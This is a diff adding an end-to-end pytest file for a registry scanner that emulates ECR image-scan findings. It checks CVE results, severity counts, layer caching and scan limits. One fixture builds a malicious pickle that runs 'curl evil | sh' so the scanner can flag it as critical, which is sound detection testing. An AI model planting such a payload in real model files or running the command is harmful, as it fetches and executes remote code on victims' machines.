@@ -1,0 +1,227 @@
+"""Scan on push end to end: a real server, images pushed with skopeo and a model pushed
+with oras-py, findings read back through boto3 in ECR's basic and enhanced shapes.
+
+The images are the scan engine's fixtures (tests/support/layers.py): a Debian base layer
+with known dpkg packages, and an application layer with an npm package, a malicious
+pickle and a harmless safetensors file; the advisories are tests/fixtures/osv.
+"""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from e2e.conftest import Cli
+from support import layers as img
+from support import models, osv
+from support.aws import aws_client, error_of
+from support.server import RunningServer
+
+pytestmark = pytest.mark.e2e
+
+BASE = img.layer({"etc/os-release": img.DEBIAN_OS_RELEASE, "var/lib/dpkg/status": img.DPKG_STATUS})
+APP = img.layer(
+    {
+        "app/node_modules/lodash/package.json": b'{"name": "lodash", "version": "4.17.20"}',
+        "app/models/classifier.pkl": models.call("posix", "system", "curl evil | sh"),
+        "app/models/weights.safetensors": models.safetensors({"w": ("F32", [2], (0, 8))}, 8),
+    },
+    compression="zstd",
+)
+OTHER_APP = img.layer({"srv/readme.txt": b"another application on the same base\n"})
+
+EXPECTED = {
+    # (name, severity, package_name, package_version)
+    ("CVE-2024-2961", "HIGH", "libc6", "2.36-9+deb12u4"),
+    ("CVE-2023-5678", "LOW", "libssl3", "3.0.11-1~deb12u2"),
+    ("CVE-2022-3715", "INFORMATIONAL", "bash", "5.2.15-2+b2"),
+    ("CVE-2023-48795", "MEDIUM", "openssh-client", "1:9.2p1-2+deb12u2"),
+    ("CVE-2021-23337", "HIGH", "lodash", "4.17.20"),
+    ("pickle-code-execution", "CRITICAL", None, None),
+}
+EXPECTED_COUNTS = {"CRITICAL": 1, "HIGH": 2, "INFORMATIONAL": 1, "LOW": 1, "MEDIUM": 1}
+
+
+def layout(directory: Path, app: bytes) -> Path:
+    img.write_layout(directory, [(BASE, img.media_type("gzip")), (app, img.media_type("zstd"))], tag="v1")
+    return directory
+
+
+def push(skopeo: Cli, server: RunningServer, source: Path, target: str) -> None:
+    skopeo.run(
+        "copy", "--dest-tls-verify=false", "--dest-creds", f"{server.user}:{server.password}",
+        f"oci:{source}:v1", f"docker://{server.registry}/{target}",
+    )  # fmt: skip
+
+
+def wait_for(check: Callable[[], Any], timeout: float = 90) -> Any:
+    deadline = time.monotonic() + timeout
+    while True:
+        result = check()
+        if result is not None:
+            return result
+        if time.monotonic() > deadline:
+            raise AssertionError("timed out")
+        time.sleep(0.2)
+
+
+def finished_scan(ecr: Any, repository: str, tag: str, **extra: Any) -> dict[str, Any]:
+    def check() -> dict[str, Any] | None:
+        try:
+            response: dict[str, Any] = ecr.describe_image_scan_findings(
+                repositoryName=repository, imageId={"imageTag": tag}, **extra
+            )
+        except ecr.exceptions.ScanNotFoundException:
+            return None
+        return None if response["imageScanStatus"]["status"] in ("PENDING", "IN_PROGRESS") else response
+
+    return dict(wait_for(check))
+
+
+def all_findings(ecr: Any, repository: str, tag: str, key: str, page: int) -> list[dict[str, Any]]:
+    found: list[dict[str, Any]] = []
+    extra: dict[str, Any] = {"maxResults": page}
+    while True:
+        response = finished_scan(ecr, repository, tag, **extra)
+        found += response["imageScanFindings"][key]
+        if "nextToken" not in response:
+            return found
+        extra["nextToken"] = response["nextToken"]
+
+
+def attributes(finding: dict[str, Any]) -> dict[str, str]:
+    return {a["key"]: a["value"] for a in finding["attributes"]}
+
+
+def scan_events(server: RunningServer, event_type: str = "scan.complete") -> list[dict[str, Any]]:
+    return list(server.cli_json("events", "list", "--type", event_type, "--output", "json")["events"])
+
+
+@pytest.fixture
+def ecr(server: RunningServer) -> Any:
+    server.cli("vulndb", "import", str(osv.RECORDS_DIR))
+    return aws_client(server, "ecr")
+
+
+def test_basic_findings_of_an_image_pushed_with_skopeo(
+    server: RunningServer, ecr: Any, skopeo: Cli, tmp_path: Path
+) -> None:
+    ecr.create_repository(repositoryName="team/app", imageScanningConfiguration={"scanOnPush": True})
+    push(skopeo, server, layout(tmp_path / "app", APP), "team/app:v1")
+
+    response = finished_scan(ecr, "team/app", "v1")
+    assert response["imageScanStatus"] == {
+        "status": "COMPLETE",
+        "description": "The scan was completed successfully.",
+    }
+    scan = response["imageScanFindings"]
+    assert scan["findingSeverityCounts"] == EXPECTED_COUNTS
+    assert "enhancedFindings" not in scan
+    found = all_findings(ecr, "team/app", "v1", "findings", page=2)
+    assert len(found) == 6
+    assert {
+        (f["name"], f["severity"], attributes(f).get("package_name"), attributes(f).get("package_version"))
+        for f in found
+    } == EXPECTED
+    glibc = next(f for f in found if f["name"] == "CVE-2024-2961")
+    assert glibc["uri"] == "https://osv.dev/vulnerability/CVE-2024-2961"
+    lodash = attributes(next(f for f in found if f["name"] == "CVE-2021-23337"))
+    assert lodash["CVSS3_VECTOR"] == "CVSS:3.1/AV:N/AC:L/PR:H/UI:N/S:U/C:H/I:H/A:H"
+    assert lodash["CVSS3_SCORE"] == "7.2"
+    model = next(f for f in found if f["severity"] == "CRITICAL")
+    assert attributes(model)["file_path"] == "app/models/classifier.pkl"
+    assert model["description"] == "imports posix.system"
+
+    [detail] = ecr.describe_images(repositoryName="team/app")["imageDetails"]
+    assert detail["imageScanStatus"]["status"] == "COMPLETE"
+    assert detail["imageScanFindingsSummary"]["findingSeverityCounts"] == EXPECTED_COUNTS
+    assert "vulnerabilitySourceUpdatedAt" in detail["imageScanFindingsSummary"]
+
+    [complete] = scan_events(server)
+    assert complete["data"]["scan-status"] == "COMPLETE"
+    assert complete["data"]["finding-severity-counts"] == EXPECTED_COUNTS
+    [new] = scan_events(server, "scan.finding.new")
+    assert new["data"]["count"] == 6
+
+
+def test_a_shared_base_layer_is_analysed_once_and_an_enhanced_registry_answers_enhanced(
+    server: RunningServer, ecr: Any, skopeo: Cli, tmp_path: Path
+) -> None:
+    ecr.put_registry_scanning_configuration(
+        scanType="ENHANCED",
+        rules=[
+            {
+                "scanFrequency": "SCAN_ON_PUSH",
+                "repositoryFilters": [{"filter": "ml/*", "filterType": "WILDCARD"}],
+            }
+        ],
+    )
+    push(skopeo, server, layout(tmp_path / "app", APP), "ml/first:v1")
+    finished_scan(ecr, "ml/first", "v1")
+    # Not covered by the rule, and not scanning on push itself: no scan.
+    push(skopeo, server, layout(tmp_path / "app", APP), "other/app:v1")
+    push(skopeo, server, layout(tmp_path / "other", OTHER_APP), "ml/second:v1")
+    finished_scan(ecr, "ml/second", "v1")
+
+    first, second = sorted(scan_events(server), key=lambda e: e["data"]["repository-name"])
+    assert (first["data"]["layers-analysed"], first["data"]["layers-from-cache"]) == (2, 0)
+    # The base layer was analysed for ml/first: ml/second reads only its own layer.
+    assert (second["data"]["layers-analysed"], second["data"]["layers-from-cache"]) == (1, 1)
+    with pytest.raises(ecr.exceptions.ScanNotFoundException):
+        ecr.describe_image_scan_findings(repositoryName="other/app", imageId={"imageTag": "v1"})
+
+    found = all_findings(ecr, "ml/first", "v1", "enhancedFindings", page=4)
+    assert {
+        (
+            f["packageVulnerabilityDetails"]["vulnerabilityId"]
+            if "packageVulnerabilityDetails" in f
+            else f["title"].split(" ")[0],
+            f["severity"],
+        )
+        for f in found
+    } == {(name, severity) for name, severity, _, _ in EXPECTED}
+    assert {f["status"] for f in found} == {"ACTIVE"}
+    lodash = next(f for f in found if f["title"].startswith("CVE-2021-23337"))
+    [package] = lodash["packageVulnerabilityDetails"]["vulnerablePackages"]
+    assert (package["name"], package["version"], package["packageManager"]) == (
+        "lodash",
+        "4.17.20",
+        "NODEPKG",
+    )
+    assert lodash["fixAvailable"] == "YES"
+    assert package["fixedInVersion"] == "4.17.21"
+    assert lodash["resources"][0]["details"]["awsEcrContainerImage"]["repositoryName"] == "ml/first"
+
+
+def test_start_image_scan_once_a_day_keeps_first_seen(
+    server: RunningServer, ecr: Any, skopeo: Cli, tmp_path: Path
+) -> None:
+    ecr.put_registry_scanning_configuration(scanType="ENHANCED", rules=[])
+    ecr.create_repository(repositoryName="manual/app")
+    push(skopeo, server, layout(tmp_path / "app", APP), "manual/app:v1")
+    with pytest.raises(ecr.exceptions.ScanNotFoundException):
+        ecr.describe_image_scan_findings(repositoryName="manual/app", imageId={"imageTag": "v1"})
+
+    started = ecr.start_image_scan(repositoryName="manual/app", imageId={"imageTag": "v1"})
+    assert started["imageScanStatus"] == {"status": "PENDING"}
+    assert started["imageId"]["imageDigest"].startswith("sha256:")
+    code, message, status = error_of(
+        ecr.start_image_scan, repositoryName="manual/app", imageId={"imageTag": "v1"}
+    )
+    assert (code, status) == ("LimitExceededException", 400)
+    assert "once per 24 hours" in message
+    found = all_findings(ecr, "manual/app", "v1", "enhancedFindings", page=100)
+    assert len(found) == 6
+
+    code, _, status = error_of(
+        ecr.start_image_scan, repositoryName="manual/app", imageId={"imageTag": "nope"}
+    )
+    assert (code, status) == ("ImageNotFoundException", 400)
+    code, _, status = error_of(
+        ecr.describe_image_scan_findings, repositoryName="manual/none", imageId={"imageTag": "v1"}
+    )
+    assert (code, status) == ("RepositoryNotFoundException", 400)
